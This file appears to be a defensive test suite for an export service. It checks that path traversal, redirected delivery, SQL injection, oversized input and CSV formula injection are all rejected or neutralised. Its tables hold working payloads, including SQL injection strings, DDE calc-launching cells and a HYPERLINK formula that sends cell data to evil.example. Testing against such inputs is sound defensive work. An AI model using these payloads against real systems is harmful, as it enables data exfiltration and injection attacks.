"""Named attack payloads, each with its exact outcome, driven through the real intake and exporter.

Requests go through :func:`eclipse_exports.queue.intake.take_requests` on the real Redis stream (status hash,
dead-letter stream, cursor) and, where a file is produced, through :func:`eclipse_exports.exports.run.run_export`
into the moto S3 bucket. Every table entry is followed on the stream by a harmless control request that must
still be accepted: an attack never stops the intake.
"""

import csv
import gzip
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import redis
from sqlalchemy import Engine, create_engine, func, select

from eclipse_exports.exports.run import ExportLimits, run_export
from eclipse_exports.models import ExportRequest, InvalidRequest, ResourceType
from eclipse_exports.queue.intake import IntakeResult, take_requests
from eclipse_exports.queue.keys import DEAD_LETTER_STREAM, REQUEST_STREAM, job_status_key
from eclipse_exports.queue.status import JobStatusStore
from eclipse_exports.source import schema
from eclipse_exports.source.demo_data import create_schema
from eclipse_exports.storage.client import ExportStorage
from tests.dataset import DATASET, expected_rows
from tests.readback import read_rows

CONTROL_ID = "control-after-attack"


def make_payload(job_id="atk-1", workspace="ws_a", user="u_analyst", resource="alerts", fmt="csv", **extra) -> dict:
    return {"id": job_id, "workspaceId": workspace, "userId": user, "resourceType": resource, "format": fmt, **extra}


def take(redis_client: redis.Redis, engine: Engine, cursor: str | None = None) -> IntakeResult:
    return take_requests(redis_client, engine, JobStatusStore(redis_client), cursor)


def status(redis_client: redis.Redis, job_id: str) -> dict[str, str]:
    return JobStatusStore(redis_client).get(job_id)


def dead_letters(redis_client: redis.Redis) -> list[dict[str, bytes]]:
    return [{k.decode(): v for k, v in fields.items()} for _id, fields in redis_client.xrange(DEAD_LETTER_STREAM)]


def status_keys(redis_client: redis.Redis) -> set[str]:
    return {k.decode() for k in redis_client.scan_iter(match=job_status_key("*"))}


def fetch(storage: ExportStorage, key: str) -> bytes:
    return storage.client.get_object(Bucket=storage.bucket, Key=key)["Body"].read()


def export(engine: Engine, storage: ExportStorage, redis_client: redis.Redis, payload: dict):
    req = ExportRequest.from_payload(json.dumps(payload))
    return run_export(req, engine=engine, storage=storage, status=JobStatusStore(redis_client),
                      limits=ExportLimits(), run_id="run-attack", batch_rows=16)


# --- Invalid payloads: invalid_request, dead-lettered with their original bytes, the control still accepted ---

def _raw(payload) -> bytes:
    return payload if isinstance(payload, bytes) else json.dumps(payload).encode()


# name -> (payload, id whose status must say rejected (None: the payload carries no valid id), reason fragment)
INVALID = {
    # Path traversal and look-alikes in ids: refused by the id pattern of docs/interface.md before any key is built.
    "traversal in id": (make_payload(job_id="../../ws_b"), None, "id: String should match pattern"),
    "traversal in workspaceId": (make_payload("trv-1", workspace="../../ws_b"), "trv-1", "workspaceId: String should"),
    "dotdot inside workspaceId": (make_payload("trv-2", workspace="ws_a/../ws_b"), "trv-2", "workspaceId"),
    "url-encoded traversal": (make_payload("trv-3", workspace="..%2F..%2Fws_b"), "trv-3", "workspaceId"),
    "url-encoded dots": (make_payload("trv-4", workspace="%2e%2e%2fws_b"), "trv-4", "workspaceId"),
    "absolute path workspaceId": (make_payload("trv-5", workspace="/etc/passwd"), "trv-5", "workspaceId"),
    "windows path workspaceId": (make_payload("trv-6", workspace="C:\\Windows\\System32"), "trv-6", "workspaceId"),
    "absolute path id": (make_payload(job_id="/tmp/x"), None, "id: String should match pattern"),
    "traversal in userId": (make_payload("trv-7", user="../u_owner"), "trv-7", "userId"),
    "NUL in workspaceId": (make_payload("trv-8", workspace="ws_a\u0000"), "trv-8", "workspaceId"),
    "newline after workspaceId": (make_payload("trv-9", workspace="ws_a\n"), "trv-9", "workspaceId"),
    "cyrillic look-alike workspaceId": (make_payload("trv-10", workspace="ws_\u0430"), "trv-10", "workspaceId"),
    "fullwidth workspaceId": (make_payload("trv-11", workspace="\uff57\uff53_a"), "trv-11", "workspaceId"),
    "SQL in workspaceId": (make_payload("trv-12", workspace="ws_a' OR '1'='1"), "trv-12", "workspaceId"),
    "empty workspaceId": (make_payload("trv-13", workspace=""), "trv-13", "workspaceId"),
    # Attempts to send the file elsewhere.
    "unknown field email": (make_payload("mail-1", delivery="email", email="attacker@evil.example"), "mail-1",
                            "email: unknown field"),
    "unknown field to": (make_payload("mail-2", delivery="email", to="attacker@evil.example"), "mail-2",
                         "to: unknown field"),
    "unknown field Email": (make_payload("mail-3", Email="attacker@evil.example"), "mail-3", "Email: unknown field"),
    "address as delivery": (make_payload("mail-4", delivery="attacker@evil.example"), "mail-4", "delivery"),
    "delivery as object": (make_payload("mail-5", delivery={"to": "attacker@evil.example"}), "mail-5", "delivery"),
    "recipient in options": (make_payload("mail-6", options={"to": "attacker@evil.example"}), "mail-6",
                             "options.to: unknown field"),
    "recipient in filters": (make_payload("mail-7", filters={"email": "attacker@evil.example"}), "mail-7",
                             "filters.email: unknown field"),
    "key override in options": (make_payload("key-1", options={"path": "../ws_b/exports/x.csv"}), "key-1",
                                "options.path: unknown field"),
    # Wrong types: never coerced.
    "id as number": (make_payload(job_id=12345), None, "id: Input should be a valid string"),
    "id as bool": (make_payload(job_id=True), None, "id: Input should be a valid string"),
    "id as list": (make_payload(job_id=["atk-1"]), None, "id: Input should be a valid string"),
    "workspaceId as number": (make_payload("type-1", workspace=1), "type-1", "workspaceId: Input should be"),
    "userId as operator object": (make_payload("type-2", user={"$ne": None}), "type-2", "userId: Input should be"),
    "format as list": (make_payload("type-3", fmt=["csv"]), "type-3", "format"),
    "filters as string": (make_payload("type-4", filters="severity=high"), "type-4", "filters: Input should be"),
    "filters as list": (make_payload("type-5", filters=["high"]), "type-5", "filters: Input should be"),
    "severity as string": (make_payload("type-6", filters={"severity": "high"}), "type-6", "filters.severity"),
    "brand as string": (make_payload("type-7", filters={"brand": "Alpha"}), "type-7", "filters.brand"),
    "bool as string": (make_payload("type-8", options={"excelCompatible": "true"}), "type-8",
                       "options.excelCompatible: Input should be a valid boolean"),
    "bool as number": (make_payload("type-9", options={"excelCompatible": 1}), "type-9", "options.excelCompatible"),
    "date as number": (make_payload("type-10", filters={"from": 1_700_000_000}), "type-10", "filters.from"),
    "date without offset": (make_payload("type-11", filters={"from": "2026-10-05T00:00:00"}), "type-11",
                            "filters.from"),
    "huge integer id": (b'{"id":' + b"9" * 5000 + b',"workspaceId":"ws_a"}', None, "id"),
    "NaN severity": (b'{"id":"type-12","workspaceId":"ws_a","userId":"u_analyst","resourceType":"alerts",'
                     b'"format":"csv","filters":{"severity":[NaN]}}', "type-12", "filters.severity.0"),
    # Shapes that are not a request object.
    "double-encoded JSON": (json.dumps(json.dumps(make_payload("enc-1"))).encode(), None, "Input should be an object"),
    "UTF-16 payload": (json.dumps(make_payload("enc-2")).encode("utf-16"), "enc-2", "payload is not UTF-8"),
    "trailing garbage": (_raw(make_payload("enc-3")) + b";DROP TABLE alerts", "enc-3", "trailing characters"),
    # Size and depth.
    "oversized payload": (_raw(make_payload("big-1", filters={"brand": ["b" * 200] * 340})), "big-1",
                          "the limit is 65536"),
    "deeply nested JSON": (_raw(make_payload("deep-1"))[:-1] + b',"filters":{"brand":' + b"[" * 300 + b"]" * 300
                           + b"}}", "deep-1", "recursion limit"),
    "very deeply nested JSON": (b'{"id":"deep-2","filters":' + b"[" * 30_000 + b"]" * 30_000 + b"}", "deep-2",
                                "recursion limit"),
}


@pytest.mark.parametrize("name", INVALID)
def test_invalid_payload_is_dead_lettered_and_rejected(redis_client, sqlite_engine, storage, name):
    payload, job_id, fragment = INVALID[name]
    raw = _raw(payload)
    attack_entry = redis_client.xadd(REQUEST_STREAM, {"payload": raw}).decode()
    last = redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload(CONTROL_ID))}).decode()

    result = take(redis_client, sqlite_engine)

    assert [r.id for r in result.accepted] == [CONTROL_ID]
    assert (result.cursor, result.entries, result.rejected, result.dead_lettered) == (last, 2, 1, 1)
    [letter] = dead_letters(redis_client)
    assert letter["payload"] == raw  # the original bytes, for the record
    assert letter["errorCode"] == b"invalid_request" and letter["sourceEntryId"].decode() == attack_entry
    assert fragment in letter["reason"].decode()
    expected_keys = {job_status_key(CONTROL_ID)} | ({job_status_key(job_id)} if job_id else set())
    assert status_keys(redis_client) == expected_keys
    if job_id:
        s = status(redis_client, job_id)
        assert (s["status"], s["errorCode"]) == ("rejected", "invalid_request") and fragment in s["error"]
    assert status(redis_client, CONTROL_ID)["status"] == "queued"
    assert list(storage.iter_objects("")) == []


@pytest.mark.parametrize("workspace, job_id", [
    ("../../ws_b", "job-1"), ("ws_a/../ws_b", "job-1"), ("..%2Fws_b", "job-1"), ("/abs", "job-1"),
    ("ws_a", "../../ws_b/exports/x"), ("ws_a", "x/../../ws_b"), ("ws_a", "a\nb"), ("ws_a", ""),
])
def test_storage_refuses_to_build_keys_from_hostile_ids(storage, workspace, job_id):
    """Defence in depth: even a request that bypassed the model cannot climb out of its workspace prefix."""
    with pytest.raises(ValueError):
        storage.export_key(workspace, ResourceType.ALERTS, job_id, "csv", datetime(2026, 11, 1, tzinfo=UTC))


@pytest.mark.parametrize("field, value", [("workspace_id", "ws_b"), ("user_id", "u_b"),
                                          ("resource_type", "actions"), ("created_at", "2026-11-01T00:00:00Z")])
def test_python_attribute_names_are_unknown_fields(redis_client, sqlite_engine, field, value):
    camel = {"workspace_id": "workspaceId", "user_id": "userId", "resource_type": "resourceType",
             "created_at": "createdAt"}[field]
    payload = {k: v for k, v in make_payload("alias-1", user="u_b", workspace="ws_b").items() if k != camel}
    payload[field] = value
    redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(payload)})
    result = take(redis_client, sqlite_engine)
    assert result.dead_lettered == 1
    assert status(redis_client, "alias-1")["errorCode"] == "invalid_request"


@pytest.mark.parametrize("name", ["oversized payload", "very deeply nested JSON"])
def test_oversized_or_too_deep_payload_with_a_valid_id_rejects_its_job(redis_client, sqlite_engine, name):
    payload = {"oversized payload": _raw(make_payload("big-2", filters={"brand": ["b" * 200] * 340})),
               "very deeply nested JSON": b'{"id":"deep-3","filters":' + b"[" * 30_000 + b"]" * 30_000 + b"}"}[name]
    redis_client.xadd(REQUEST_STREAM, {"payload": payload})
    take(redis_client, sqlite_engine)
    job_id = "big-2" if name == "oversized payload" else "deep-3"
    assert status(redis_client, job_id).get("status") == "rejected"


def test_entries_without_payload_field_are_dead_lettered(redis_client, sqlite_engine):
    redis_client.xadd(REQUEST_STREAM, {"id": "nopayload-1", "workspaceId": "ws_a", "payload ": "x"})
    redis_client.xadd(REQUEST_STREAM, {"Payload": json.dumps(make_payload("nopayload-2"))})
    redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload(CONTROL_ID))})
    result = take(redis_client, sqlite_engine)
    assert [r.id for r in result.accepted] == [CONTROL_ID] and result.dead_lettered == 2
    letters = dead_letters(redis_client)
    assert [e["reason"] for e in letters] == [b"entry has no 'payload' field"] * 2
    assert all("payload" not in e and e["errorCode"] == b"invalid_request" for e in letters)
    assert status_keys(redis_client) == {job_status_key(CONTROL_ID)}


# --- Duplicate ids: dead-lettered as duplicates, the first job's status never touched ---

@pytest.mark.parametrize("same_batch", [True, False], ids=["same-batch", "later-batch"])
def test_duplicate_id_for_another_workspace_is_dead_lettered(redis_client, sqlite_engine, same_batch):
    redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload("victim-1"))})
    cursor = None if same_batch else take(redis_client, sqlite_engine).cursor
    before = status(redis_client, "victim-1")
    hijack = json.dumps(make_payload("victim-1", workspace="ws_b", user="u_b", resource="actions", fmt="json"))
    redis_client.xadd(REQUEST_STREAM, {"payload": hijack})
    redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload("victim-1", fmt="xlsx"))})
    result = take(redis_client, sqlite_engine, cursor)

    assert [r.id for r in result.accepted] == (["victim-1"] if same_batch else [])
    after = status(redis_client, "victim-1")
    assert (after["workspaceId"], after["userId"], after["resourceType"], after["status"]) == \
        ("ws_a", "u_analyst", "alerts", "queued")
    if not same_batch:
        assert after == before
    letters = dead_letters(redis_client)
    assert [e["errorCode"] for e in letters] == [b"duplicate", b"duplicate"]
    assert letters[0]["payload"] == hijack.encode()
    assert all(b"duplicate request id 'victim-1'" in e["reason"] for e in letters)


def test_duplicate_cannot_overwrite_a_refused_job(redis_client, sqlite_engine):
    redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload("refused-1", user="u_viewer",
                                                                     resource="actions"))})
    first = take(redis_client, sqlite_engine)
    before = status(redis_client, "refused-1")
    assert (before["status"], before["errorCode"]) == ("rejected", "forbidden")
    redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload("refused-1", user="u_owner",
                                                                     resource="actions"))})
    second = take(redis_client, sqlite_engine, first.cursor)
    assert second.accepted == [] and second.dead_lettered == 1
    assert status(redis_client, "refused-1") == before


# --- Poison pills: a valid request must never stop the intake ---

@pytest.mark.parametrize("created_at", ["9999-12-31T23:59:59-01:00", "0001-01-01T00:00:00+01:00"])
@pytest.mark.parametrize("workspace, user", [("ws_a", "u_analyst"), ("ws_nowhere", "u_analyst")],
                         ids=["accepted-path", "refused-path"])
def test_extreme_created_at_does_not_stop_the_intake(redis_client, sqlite_engine, created_at, workspace, user):
    redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload("poison-1", workspace=workspace, user=user,
                                                                     createdAt=created_at))})
    last = redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload(CONTROL_ID))}).decode()
    result = take(redis_client, sqlite_engine)
    assert result.cursor == last and CONTROL_ID in [r.id for r in result.accepted]
    assert status(redis_client, "poison-1")["status"] in ("queued", "rejected")


# --- SQL metacharacters in filter values: valid requests that match only what they literally say ---

SQL_BRANDS = ["x' OR '1'='1", "%", "_", ";DROP TABLE alerts;--", "Alpha' --", "Alpha%", "Alph_", "Alpha\\",
              "' UNION SELECT id, title, url, name, severity, status, detected_at, monitor_source FROM alerts --",
              '") OR 1=1 --', "*", "Alpha' || '"]


def _table_counts(engine: Engine) -> dict[str, int]:
    with engine.connect() as conn:
        return {t.name: conn.execute(select(func.count()).select_from(t)).scalar_one()
                for t in schema.metadata.sorted_tables}


def test_sql_metacharacter_brands_are_valid_requests(redis_client, sqlite_engine):
    for n, brand in enumerate(SQL_BRANDS):
        redis_client.xadd(REQUEST_STREAM, {"payload": json.dumps(make_payload(f"sql-{n}", filters={"brand": [brand]}))})
    result = take(redis_client, sqlite_engine)
    assert [r.id for r in result.accepted] == [f"sql-{n}" for n in range(len(SQL_BRANDS))]
    assert [r.filters.brand for r in result.accepted] == [[b] for b in SQL_BRANDS]
    assert dead_letters(redis_client) == []


@pytest.mark.parametrize("resource", ["alerts", "infringements"])
def test_sql_metacharacter_brands_export_nothing_and_break_nothing(source, storage, redis_client, resource):
    before = _table_counts(source)
    assert before["alerts"] == len(DATASET["alerts"])
    for n, brand in enumerate(SQL_BRANDS):
        result = export(source, storage, redis_client,
                        make_payload(f"sql-{resource}-{n}", resource=resource, filters={"brand": [brand]}))
        assert result.row_count == 0, brand
        data = fetch(storage, result.key)
        header = next(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        assert read_rows(data, "csv") == [] and header[0] == "id"
        assert status(redis_client, f"sql-{resource}-{n}")["rowCount"] == "0"
    assert _table_counts(source) == before
    control = export(source, storage, redis_client, make_payload(f"sql-{resource}-ok", resource=resource,
                                                             filters={"brand": ["Alpha"]}))
    assert control.row_count == len(expected_rows(resource, "ws_a", brand=["Alpha"])) > 0


@pytest.mark.parametrize("engine_name", [
    "sqlite_engine",
    "pg_engine",
])
def test_nul_in_brand_is_refused_and_the_sql_path_matches_nothing(request, engine_name):
    """The request model refuses NUL first; the SQL paths behind it are still tried with a NUL brand (the
    filters built without validation): they match nothing or fail cleanly, and change nothing."""
    from sqlalchemy.exc import DBAPIError, StatementError

    from eclipse_exports.models import ExportFilters
    from eclipse_exports.source.queries import count_query, export_query

    engine = request.getfixturevalue(engine_name)
    payload = {"id": "nul-1", "workspaceId": "ws_a", "userId": "u_analyst", "resourceType": "alerts",
               "format": "csv", "filters": {"brand": ["Alpha\u0000"]}}
    with pytest.raises(InvalidRequest):
        ExportRequest.from_payload(json.dumps(payload))
    before = _table_counts(engine)
    outcomes = []
    for brand in ("Alpha\u0000", "\u0000", "Alpha\u0000' OR '1'='1"):
        filters = ExportFilters.model_construct(brand=[brand])
        for resource in (ResourceType.ALERTS, ResourceType.INFRINGEMENTS):
            with engine.connect() as conn:
                try:
                    rows = conn.execute(export_query(resource, "ws_a", filters)).all()
                    count = conn.execute(count_query(resource, "ws_a", filters)).scalar_one()
                except (DBAPIError, StatementError, ValueError) as exc:
                    outcomes.append(type(exc).__name__)
                    assert "NUL" in str(exc) or "\\x00" in str(exc) or "0x00" in str(exc), exc
                    continue
            assert rows == [] and count == 0, (brand, resource)
            outcomes.append("no rows")
    assert _table_counts(engine) == before
    # Every query ran: SQLite compares the text and matches nothing; psycopg2 refuses NUL before sending it.
    assert len(outcomes) == 6, outcomes


# --- Formula injection: CSV cells neutralized with a leading quote, other formats carry the text unchanged ---

FORMULA_TITLES = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")': True,
    "=cmd|' /C calc'!A0": True,
    "+cmd|' /C calc'!A0": True,
    "-2+3": True,
    "@SUM(1+1)*cmd|' /C calc'!A0": True,
    "\t=1+1": True,
    "\r=1+1": True,
    "\n=1+1": True,
    "\u0000=1+1": True,
    "'=already quoted": False,
    " =leading space": False,
    "a=b": False,
    "plain title": False,
    "": False,
}
FORMULA_WORKSPACE, FORMULA_USER = "ws_formula", "u_formula"
START = datetime(2026, 11, 1, tzinfo=UTC)


@pytest.fixture(scope="module")
def formula_engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    engine = create_engine(f"sqlite:///{Path(tmp_path_factory.mktemp('formula')) / 'source.db'}")
    create_schema(engine)
    with engine.begin() as conn:
        conn.execute(schema.workspaces.insert(), [{"id": FORMULA_WORKSPACE, "name": "F", "status": "active",
                                                   "created_at": START}])
        conn.execute(schema.users.insert(), [{"id": FORMULA_USER, "email": "=f@x.example", "name": "F"}])
        conn.execute(schema.workspace_members.insert(), [{"workspace_id": FORMULA_WORKSPACE,
                                                          "user_id": FORMULA_USER, "role": "owner"}])
        conn.execute(schema.brands.insert(), [{"id": "br_f", "workspace_id": FORMULA_WORKSPACE,
                                               "name": "=BRAND()"}])
        conn.execute(schema.alerts.insert(), [
            {"id": f"f{i:02d}", "workspace_id": FORMULA_WORKSPACE, "brand_id": "br_f", "title": title,
             "url": "@http://evil.example", "severity": "high", "status": "new",
             "detected_at": START + timedelta(minutes=i), "monitor_source": "-monitor"}
            for i, title in enumerate(FORMULA_TITLES)])
    return engine


def _formula_request(job_id: str, fmt: str, **options) -> dict:
    return make_payload(job_id, workspace=FORMULA_WORKSPACE, user=FORMULA_USER, fmt=fmt,
                   **({"options": options} if options else {}))


@pytest.mark.parametrize("options", [{}, {"excelCompatible": True}, {"compression": "gzip"}],
                         ids=["plain", "excel", "gzip"])
def test_formula_cells_are_quoted_in_csv(formula_engine, storage, redis_client, options):
    job_id = f"csv-{'-'.join(options) or 'plain'}"
    result = export(formula_engine, storage, redis_client, _formula_request(job_id, "csv", **options))
    data = fetch(storage, result.key)
    if options.get("compression") == "gzip":
        data = gzip.decompress(data)
    if options.get("excelCompatible"):
        assert data.startswith(b"\xef\xbb\xbf")
        data = data[3:]
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["id", "title", "url", "brand", "severity", "status", "detected_at", "monitor_source"]
    assert len(body) == len(FORMULA_TITLES)
    for cells, (title, risky) in zip(body, FORMULA_TITLES.items(), strict=True):
        row = dict(zip(header, cells, strict=True))
        assert row["title"] == ("'" + title if risky else title), repr(title)
        assert (row["url"], row["brand"], row["monitor_source"]) == ("'@http://evil.example", "'=BRAND()",
                                                                      "'-monitor")
        assert row["detected_at"][:4] == "2026" and row["id"][0] == "f"
    # No cell a spreadsheet would evaluate: every field starts with a safe character (or is empty).
    assert all(not c or c[0] not in "=+-@\t\r\n\x00" for line in body for c in line)


@pytest.mark.parametrize("fmt", ["json", "jsonl", "parquet"])
def test_formula_text_is_unchanged_in_other_formats(formula_engine, storage, redis_client, fmt):
    result = export(formula_engine, storage, redis_client, _formula_request(f"other-{fmt}", fmt))
    data = fetch(storage, result.key)
    rows = pq.read_table(io.BytesIO(data)).to_pylist() if fmt == "parquet" else read_rows(data, fmt)
    assert [r["title"] for r in rows] == list(FORMULA_TITLES)
    assert {(r["url"], r["brand"], r["monitor_source"]) for r in rows} == {
        ("@http://evil.example", "=BRAND()", "-monitor")}
